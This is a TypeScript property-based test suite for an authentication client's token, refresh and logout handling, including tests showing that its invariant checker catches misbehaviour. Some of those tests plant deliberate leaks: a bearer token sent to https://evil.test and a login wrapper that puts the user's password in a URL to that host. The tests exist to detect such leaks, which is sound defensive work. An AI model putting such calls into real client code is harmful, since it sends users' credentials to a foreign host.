import fc from 'fast-check'
import { afterEach, expect, test, vi } from 'vitest'
import { BASE, type Command, type Config, commandArb, configArb, ROBOT } from './model/commands.js'
import { BASE_CONFIG, REGRESSIONS } from './model/regressions.js'
import { runModel } from './model/runner.js'

// Model-based, property-based test of the whole client: random interleavings of requests
// with every body kind, aborts, expiries, revocations, slow and failing refreshes, logouts and re-logins,
// against a scriptable in-process server with one faked clock. The invariants are checked as things happen
// (what the client sends) and after each run (how every call ended). See README "Reliability suite".

const RUNS = Number(process.env.FC_RUNS ?? 1000)
const SEED = process.env.FC_SEED === undefined ? undefined : Number(process.env.FC_SEED)
/** FC_STATS=1 prints, after the property, how often each scenario and each documented exception occurred. */
const STATS = process.env.FC_STATS === '1'
/** FC_TRACE=1 prints every exchange of a run that broke an invariant. */
const TRACE = process.env.FC_TRACE === '1'
const totals: Record<string, number> = {}

// ---- the property, and the regressions it found ---------------------------------------------------------

async function property(config: Config, commands: Command[]): Promise<void> {
  const run = await runModel(config, commands)
  if (STATS) {
    const refused = run.api.history.filter(
      (e) => e.kind === 'login' && e.text?.includes(ROBOT.email_address) && e.status === 401,
    )
    if (refused.length > 0) run.count('scenario: an unattended login refused')
    if (run.api.history.some((e) => e.kind === 'refresh' && e.fault === 'drop-after'))
      run.count('scenario: a refresh answer lost after the server rotated')
    if (run.api.history.some((e) => e.kind === 'refresh')) run.count('scenario: any refresh')
    if (run.api.history.some((e) => e.kind === 'refresh' && e.fault !== undefined && e.fault !== 'ok'))
      run.count('scenario: a refresh with a fault')
    run.count(`scenario: ${config.instances} instance(s)`)
    for (const [kind, n] of Object.entries(run.counted)) totals[kind] = (totals[kind] ?? 0) + n
  }
  if (run.violations.length > 0) {
    if (TRACE) console.log(run.trace())
    throw new Error(run.violations.slice(0, 8).join('\n'))
  }
}

afterEach(() => {
  vi.useRealTimers()
})

/**
 * Failing cases the property found, as fast-check shrank them. Each runs first in the property (`examples`)
 * and as its own test below; the README's "Reliability suite" section says what each one found.
 */

test(
  `the client keeps every invariant over ${RUNS} random interleavings`,
  async () => {
    await fc.assert(
      fc.asyncProperty(configArb, fc.array(commandArb, { minLength: 1, maxLength: 40 }), property),
      {
        numRuns: RUNS,
        ...(SEED === undefined ? {} : { seed: SEED }),
        examples: REGRESSIONS.map((r) => [r.config, r.commands]),
      },
    )
    if (STATS) console.log(totals)
  },
  Math.max(120_000, RUNS * 100),
)

// FC_CASE=<file> replays one counterexample as fast-check printed it (`[config, commands]`), with FC_TRACE.
const CASE = process.env.FC_CASE
if (CASE !== undefined) {
  test(`the counterexample in ${CASE}`, async () => {
    const { readFile } = await import('node:fs/promises')
    const [config, commands] = JSON.parse(await readFile(CASE, 'utf8')) as [Config, Command[]]
    const run = await runModel(config, commands)
    console.log(run.trace())
    expect(run.violations).toEqual([])
  })
}

test.each(REGRESSIONS)('regression: $name', async ({ config, commands }) => {
  const run = await runModel(config, commands)
  expect(run.violations).toEqual([])
})

test('the invariant checks can fail: a client that leaks its token to another origin is caught', async () => {
  const config: Config = { ...BASE_CONFIG, refreshTimeoutMs: 1_000, ttlSeconds: 60 }
  const run = await runModel(config, [])
  expect(run.violations).toEqual([])
  const token = [...run.api.tokens].find(([, info]) => info.kind === 'access')?.[0]
  expect(token).toBeTypeOf('string')
  const leak = run.api.fetch('https://evil.test/x', { headers: { authorization: `Bearer ${token}` } })
  expect(run.violations).toEqual([expect.stringContaining('Authorization sent to another origin')])
  leak.catch(() => undefined)
})

const REQUEST: Command = {
  t: 'fetch',
  instance: 0,
  target: 'relative',
  input: 'string',
  body: 'none',
  signal: 'none',
  payload: '',
}

test('the invariant checks can fail: a password sent anywhere but the login body is caught', async () => {
  const run = await runModel(BASE_CONFIG, [], {
    protocol: (plantly) => ({
      ...plantly,
      async login(credentials, context) {
        const tokens = await plantly.login(credentials, context)
        context.fetch(`https://evil.test/audit?p=${credentials.password}`).catch(() => undefined)
        return tokens
      },
    }),
  })
  expect(run.violations).toContainEqual(
    expect.stringContaining('token or password in the URL https://evil.test'),
  )
})

test('the invariant checks can fail: a refresh token presented after it was rotated is caught', async () => {
  const run = await runModel(
    BASE_CONFIG,
    [
      { t: 'refresh', instance: 0 },
      { t: 'deliver', pick: 0, fault: 'ok' },
    ],
    {
      protocol: (plantly) => ({
        ...plantly,
        async refresh(session, context) {
          const tokens = await plantly.refresh(session, context)
          // "Checks" the old refresh token once more after the rotation.
          const headers = { authorization: `Bearer ${session.refresh_token}` }
          context.fetch(`${BASE}/auth/sessions`, { method: 'PUT', headers }).catch(() => undefined)
          return tokens
        },
      }),
    },
  )
  expect(run.violations).toContainEqual(
    expect.stringContaining('a refresh token presented after it was rotated'),
  )
})

test('the invariant checks can fail: a logout that leaves the session live on the server is caught', async () => {
  const run = await runModel({ ...BASE_CONFIG, instances: 3, finalLogout: 2 }, [REQUEST], {
    protocol: (plantly) => ({ ...plantly, logout: async () => undefined }),
  })
  expect(run.violations).toEqual([
    expect.stringContaining('session 1 is still live on the server after the last logout()'),
  ])
})

test('the invariant checks can fail: an unattended login inside the backoff is caught', async () => {
  const config: Config = {
    ...BASE_CONFIG,
    credentials: true,
    credentialsWrong: true,
    startLoggedIn: false,
    loginBackoffMs: 1_000,
  }
  const commands: Command[] = [REQUEST, { t: 'deliver', pick: 0, fault: 'ok' }, REQUEST]
  const kept = await runModel(config, commands)
  expect(kept.violations).toEqual([])
  expect(kept.api.history.filter((e) => e.kind === 'login')).toHaveLength(1) // the second call fails at once
  const broken = await runModel(config, commands, { loginBackoffMs: 0 })
  expect(broken.violations).toContainEqual(expect.stringContaining('before its backoff ended'))
})

test('a refresh whose answer was lost is presented again (the one exception, counted): by the retry, or the next refresh', async () => {
  const config: Config = { ...BASE_CONFIG, refreshTimeoutMs: 1_000, retryDelayMs: 10 }
  const lost: Command = { t: 'deliver', pick: 0, fault: 'drop-after' }
  for (const [retry, commands] of [
    [1, [{ t: 'refresh', instance: 0 }, lost, { t: 'tick', ms: 100 }]],
    [0, [{ t: 'refresh', instance: 0 }, lost, { t: 'refresh', instance: 0 }]],
  ] as const) {
    const run = await runModel({ ...config, retry }, commands)
    expect(run.violations).toEqual([])
    expect(run.counted['lost answer, token presented again']).toBe(1)
  }
})
